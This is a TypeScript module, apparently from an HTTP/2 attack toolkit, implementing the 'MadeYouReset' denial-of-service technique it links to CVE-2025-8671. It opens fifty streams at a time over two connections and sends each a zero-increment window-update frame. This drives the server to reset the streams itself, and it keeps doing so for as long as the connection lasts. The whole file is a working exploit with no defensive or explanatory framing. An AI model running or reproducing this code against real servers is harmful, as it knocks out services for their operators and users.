import { type Attack, callHeaders } from "./attack.js";
import { frame, number32, TYPE } from "./frames.js";

const AT_ONCE = 50;
/** An increment of nothing is a fault of the stream (RFC 9113, section 6.9). */
const NOTHING = number32(0);

/** Calls with a fault in them, so that the server itself resets them (CVE-2025-8671). */
export const madeYouReset: Attack = {
  name: "made you reset",
  connections: 2,
  async run(connection) {
    await connection.begin();
    for (let stream = 1; connection.going; stream += 2 * AT_ONCE) {
      const frames = [];
      for (let i = 0; i < AT_ONCE; i++) {
        const id = stream + 2 * i;
        frames.push(callHeaders(id), frame(TYPE.windowUpdate, 0, id, NOTHING));
      }
      await connection.write(Buffer.concat(frames), frames.length);
    }
  },
};
